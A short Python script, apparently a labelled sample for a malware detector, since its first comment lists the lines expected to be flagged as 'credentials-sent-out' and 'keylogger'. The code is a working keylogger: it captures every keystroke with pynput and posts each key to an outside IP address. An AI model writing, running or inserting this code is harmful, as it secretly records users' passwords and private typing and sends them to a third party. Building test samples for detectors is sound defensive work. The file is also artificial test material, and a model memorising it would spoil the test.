# expect: 7 credentials-sent-out, 8 keylogger
from pynput.keyboard import Listener
import requests
typed = []
def on_press(key):
    typed.append(str(key))
    requests.post("http://198.51.100.7/k", data=str(key))
with Listener(on_press=on_press) as listener:
    listener.join()
